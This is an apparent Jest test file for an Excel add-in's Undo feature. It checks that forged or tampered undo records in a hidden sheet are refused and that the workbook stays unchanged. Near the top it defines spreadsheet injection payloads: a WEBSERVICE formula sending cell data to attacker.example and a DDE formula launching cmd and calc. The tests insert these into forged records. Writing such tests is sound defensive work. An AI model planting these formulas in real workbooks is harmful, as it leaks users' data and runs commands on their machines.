/**
 * Issue 14, item 7: Undo trusted whatever JSON was in the very hidden undo sheet. A record written
 * or edited by hand made it write =WEBSERVICE(…) and DDE formulas into cells the add-in never
 * touched, overwrite another sheet's A1, delete a sheet and create one. Each tampering below must
 * leave the workbook exactly as it was (the record too) and say why in Japanese.
 */
import { buildWorkbook } from '../xlsx/applyPlan';
import { workbookSnapshot } from '../xlsx/readSnapshot';
import { createFakeExcel, fakeWorkbookFrom, type FakeHost } from '../../../test/support/fakeExcel';
import { demoWorkbookSpecs } from '../../../test/support/samples/demoWorkbook';
import { createExcelHost, UNDO_SHEET, UndoRefused, type ExcelRun, type KeyStore } from '.';
import { CHUNK, OWN_SHEETS, refusalMessage, type UndoRecord } from './undoRecord';
import { reviewPlan, ReviewCollector, SETTINGS_SHEET, SUMMARY_SHEET, templateSheetSpecs } from '../../engine';
import { KEY_PREFIX, undoSigner, WORKBOOK_ID_SETTING } from './undoSignature';

const WEBSERVICE = '=WEBSERVICE("http://attacker.example/?d="&A1)';
const DDE = "=cmd|' /C calc'!A0";

/** A computer's browser storage (each test makes its own "computer"). */
function computer(): KeyStore & { map: Map<string, string> } {
  const map = new Map<string, string>();
  return { map, getItem: (n) => map.get(n) ?? null, setItem: (n, v) => void map.set(n, v) };
}

function workbook(): FakeHost {
  return createFakeExcel(fakeWorkbookFrom(workbookSnapshot(buildWorkbook(demoWorkbookSpecs())).sheets));
}

function hostOn(f: FakeHost, keys: KeyStore) {
  return createExcelHost({
    run: f.run as unknown as ExcelRun,
    isSetSupported: f.isSetSupported,
    changeTracking: true,
    fileName: 'demo.xlsx',
    settings: f.document.settings,
    undoKeys: keys,
  });
}

/** Everything the workbook holds: sheets in order with visibility and every cell. */
function state(f: FakeHost): string {
  return JSON.stringify(f.data.sheets.map((s) => [s.name, s.visibility, s.protected, [...s.cells].sort(([a], [b]) => a.localeCompare(b))]));
}

function readRecord(f: FakeHost): UndoRecord {
  const s = f.data.sheet(UNDO_SHEET)!;
  const rows = [...s.cells].filter(([a]) => /^A\d+$/.test(a)).sort(([a], [b]) => Number(a.slice(1)) - Number(b.slice(1)));
  return JSON.parse(rows.map(([, c]) => String(c.value)).join(''));
}

/** What a person editing the file (or a script) does to the very hidden sheet. */
function writeRecord(f: FakeHost, record: unknown): void {
  const s = f.data.sheet(UNDO_SHEET) ?? f.data.addSheet(UNDO_SHEET);
  s.visibility = 'VeryHidden';
  s.cells.clear();
  const json = typeof record === 'string' ? record : JSON.stringify(record);
  for (let i = 0, row = 1; i < json.length; i += CHUNK, row++) s.cells.set(`A${row}`, { value: json.slice(i, i + CHUNK), numberFormat: '@' });
}

/** A workbook graded on a computer: its record is genuine. */
async function graded(keys = computer()) {
  const f = workbook();
  const host = hostOn(f, keys);
  const result = await host.grade({ overwrite: true });
  expect(result.changes.length).toBeGreaterThan(0);
  return { f, host, keys, record: readRecord(f), result };
}

async function expectRefused(f: FakeHost, keys: KeyStore, reason: UndoRefused['reason']) {
  const before = state(f);
  const host = hostOn(f, keys);
  expect(await host.lastRun()).toEqual({ refused: reason });
  const error = await host.undo().catch((e: unknown) => e);
  expect(error).toBeInstanceOf(UndoRefused);
  expect((error as UndoRefused).reason).toBe(reason);
  expect((error as Error).message).toBe(refusalMessage(reason));
  expect((error as Error).message).toMatch(/信頼できないため、元に戻しません.*何も変更していません/);
  expect(state(f)).toBe(before); // nothing written, nothing deleted, nothing created, the record kept
}

const userSheet = (f: FakeHost) => f.data.sheets.find((s) => s.visibility === 'Visible' && s.name !== '評価サマリー')!.name;

describe('Undo trusted whatever JSON was in the undo sheet: a tampered record is refused and changes nothing', () => {
  test('a formula injected as the previous content of a graded cell', async () => {
    const { f, keys, record } = await graded();
    record.cells[0].formula = WEBSERVICE;
    writeRecord(f, record);
    await expectRefused(f, keys, 'bad-signature');
    expect(JSON.stringify(f.data.sheets.filter((s) => s.name !== UNDO_SHEET).map((s) => [...s.cells.values()]))).not.toContain('attacker.example');
  });

  test('a cell the run never wrote (its current content given as what was written)', async () => {
    const { f, keys, record } = await graded();
    const sheet = userSheet(f);
    record.cells.push({ sheet, cell: 'Z99', value: null, formula: DDE, numberFormat: null, written: '', validationAdded: false });
    writeRecord(f, record);
    await expectRefused(f, keys, 'bad-signature');
    expect(f.data.cell(sheet, 'Z99')).toBeUndefined();
  });

  test("another sheet's A1 overwritten", async () => {
    const { f, keys, record } = await graded();
    const sheet = userSheet(f);
    const a1 = f.data.value(sheet, 'A1');
    record.cells[0] = { ...record.cells[0], sheet, cell: 'A1', written: a1, formula: WEBSERVICE };
    writeRecord(f, record);
    await expectRefused(f, keys, 'bad-signature');
    expect(f.data.value(sheet, 'A1')).toBe(a1);
  });

  test("a user's sheet to delete", async () => {
    const { f, keys, record } = await graded();
    const sheet = userSheet(f);
    record.addedSheets.push(sheet);
    writeRecord(f, record);
    await expectRefused(f, keys, 'foreign-sheet');
    expect(f.data.sheet(sheet)).toBeDefined();
  });

  test("one of EvalSheet's own sheet names the run did not add, to delete", async () => {
    const { f, keys, record } = await graded();
    record.addedSheets = [];
    record.replacedSheets = [];
    writeRecord(f, record);
    await expectRefused(f, keys, 'bad-signature');
    expect(f.data.sheet('評価サマリー')).toBeDefined();
  });

  test('a new sheet to create (as a "replaced" sheet), with a foreign name or an own one', async () => {
    const { f, keys, record } = await graded();
    writeRecord(f, { ...record, replacedSheets: [{ name: '攻撃', top: 1, left: 1, formulas: [[WEBSERVICE]] }] });
    await expectRefused(f, keys, 'foreign-sheet');
    expect(f.data.sheet('攻撃')).toBeUndefined();
    writeRecord(f, { ...record, replacedSheets: [{ name: '評価設定', top: 1, left: 1, formulas: [[DDE]] }] });
    await expectRefused(f, keys, 'bad-signature');
  });

  test('the signature removed, or an old unsigned record', async () => {
    const { f, keys, record } = await graded();
    const { sig: _sig, ...unsigned } = record;
    writeRecord(f, unsigned);
    await expectRefused(f, keys, 'unsigned');
    const { workbookId: _id, ...rest } = unsigned;
    writeRecord(f, { ...rest, version: 1 });
    await expectRefused(f, keys, 'unsigned');
  });

  test("a signature from another workbook (an attacker's own, signed with the key they know)", async () => {
    const victim = await graded();
    const attacker = await graded(); // the attacker's workbook on the attacker's computer
    const forged = { ...victim.record, cells: [{ ...victim.record.cells[0], formula: WEBSERVICE }] };
    const { sig: _sig, workbookId: _id, version: _v, ...body } = forged;
    // Signed with the attacker's key, under the attacker's workbook id …
    const theirs = await undoSigner({ settings: attacker.f.document.settings, keys: attacker.keys }).sign(body);
    writeRecord(victim.f, theirs);
    await expectRefused(victim.f, victim.keys, 'other-workbook');
    // … or under the victim's workbook id (in the file, not a secret) …
    writeRecord(victim.f, { ...forged, sig: theirs.sig });
    await expectRefused(victim.f, victim.keys, 'bad-signature');
    // … or with the victim's workbook settings made to name the attacker's workbook.
    victim.f.document.settings.set(WORKBOOK_ID_SETTING, theirs.workbookId);
    writeRecord(victim.f, theirs);
    await expectRefused(victim.f, victim.keys, 'no-key');
  });

  test('a genuine record copied from another workbook graded on the same computer', async () => {
    const a = await graded();
    const b = await graded(a.keys);
    expect(b.record.workbookId).not.toBe(a.record.workbookId);
    writeRecord(a.f, b.record);
    await expectRefused(a.f, a.keys, 'other-workbook');
  });

  test('a workbook graded on another computer (its key is not here)', async () => {
    const { f } = await graded();
    await expectRefused(f, computer(), 'no-key');
  });

  test('a record that is not JSON, or has fields EvalSheet never writes', async () => {
    const { f, keys, record } = await graded();
    writeRecord(f, '{"version":2,');
    await expectRefused(f, keys, 'malformed');
    writeRecord(f, { ...record, run: 'calc.exe' });
    await expectRefused(f, keys, 'malformed');
    writeRecord(f, { ...record, cells: [{ ...record.cells[0], cell: 'A1:XFD1048576' }] });
    await expectRefused(f, keys, 'malformed');
  });
});

describe('Undo restores only what the run changed, even for a record that verifies', () => {
  /** A record signed with the workbook's own key (as a defect in EvalSheet could make). */
  async function signedHostile(f: FakeHost, keys: KeyStore, record: Partial<UndoRecord>) {
    const base = { at: new Date().toISOString(), action: 'テスト', cells: [], addedSheets: [], replacedSheets: [] };
    writeRecord(f, await undoSigner({ settings: f.document.settings, keys }).sign({ ...base, ...record }));
  }

  test('a cell that does not hold what the record says was written is left alone and named', async () => {
    const { f, keys } = await graded();
    const sheet = userSheet(f);
    const a1 = f.data.value(sheet, 'A1');
    await signedHostile(f, keys, {
      cells: [{ sheet, cell: 'A1', value: null, formula: WEBSERVICE, numberFormat: null, written: 'not what is there', validationAdded: false }],
    });
    const undone = await hostOn(f, keys).undo();
    expect(undone.restored).toBe(0);
    expect(undone.skipped).toEqual([{ sheet, cell: 'A1', now: a1 }]);
    expect(f.data.value(sheet, 'A1')).toBe(a1);
    expect(f.data.cell(sheet, 'A1')?.formula).toBeUndefined();
  });

  test('a grade a person replaced by a formula giving the same value is left alone', async () => {
    const { f, keys, result } = await graded();
    const c = result.changes[0];
    const cell = f.data.cell(c.sheet, c.cell)!;
    cell.formula = `="${c.value}"`; // shows the same grade
    const undone = await hostOn(f, keys).undo();
    expect(undone.skipped).toContainEqual({ sheet: c.sheet, cell: c.cell, now: `="${c.value}"` });
    expect(f.data.cell(c.sheet, c.cell)?.formula).toBe(`="${c.value}"`);
  });

  test('a sheet the record says was replaced but is gone is not made again', async () => {
    const { f, keys } = await graded();
    f.data.sheets = f.data.sheets.filter((s) => s.name !== '評価サマリー');
    await signedHostile(f, keys, { replacedSheets: [{ name: '評価サマリー', top: 1, left: 1, formulas: [['x']] }] });
    const names = f.data.sheets.map((s) => s.name).filter((n) => n !== UNDO_SHEET);
    const undone = await hostOn(f, keys).undo();
    expect(undone.missingSheets).toEqual(['評価サマリー']);
    expect(f.data.sheets.map((s) => s.name)).toEqual(names);
  });
});

describe('the workbook id and the key', () => {
  test('the id is saved in the workbook (settings), the key only on this computer; Undo works after the workbook is reopened', async () => {
    const { f, keys, record, result } = await graded();
    expect(f.data.savedSettings.get(WORKBOOK_ID_SETTING)).toBe(record.workbookId);
    expect(f.data.settingsSaves).toBe(1);
    expect(keys.map.get(KEY_PREFIX + record.workbookId)).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(record)).not.toContain(keys.map.get(KEY_PREFIX + record.workbookId)!);
    f.data.reopen();
    const undone = await hostOn(f, keys).undo();
    expect(undone.restored).toBe(result.changes.length);
    // A second run reuses the id: the settings are not saved again (saving them clears Excel's own undo stack).
    await hostOn(f, keys).grade({ overwrite: true });
    expect(f.data.settingsSaves).toBe(1);
    expect(readRecord(f).workbookId).toBe(record.workbookId);
  });
});

test('without Web Crypto (a page not served over https) Grade writes nothing and says why in Japanese', async () => {
  const f = workbook();
  const before = state(f);
  const real = globalThis.crypto;
  Object.defineProperty(globalThis, 'crypto', { value: { getRandomValues: real.getRandomValues.bind(real) }, configurable: true });
  try {
    const host = createExcelHost({
      run: f.run as unknown as ExcelRun,
      isSetSupported: f.isSetSupported,
      changeTracking: true,
      settings: f.document.settings,
      undoKeys: computer(),
    });
    await expect(host.grade({ overwrite: true })).rejects.toThrow(/Web Crypto.*何も変更していません/);
  } finally {
    Object.defineProperty(globalThis, 'crypto', { value: real, configurable: true });
  }
  expect(state(f)).toBe(before);
});

test('every sheet the add-in makes is one of its own, which Undo may delete or put back (a genuine record is never refused as foreign)', () => {
  const review = reviewPlan(new ReviewCollector().finish());
  const made = [
    ...templateSheetSpecs({ fiscalYear: 2023, planStart: 2021, planEnd: 2025, sample: true }).map((s) => s.name),
    ...review.sheets.map((s) => s.spec.name),
    SUMMARY_SHEET,
    SETTINGS_SHEET,
  ];
  expect(made.length).toBeGreaterThanOrEqual(9);
  for (const name of made) expect(OWN_SHEETS.has(name)).toBe(true);
  expect(OWN_SHEETS.has('施策評価シート')).toBe(false);
});
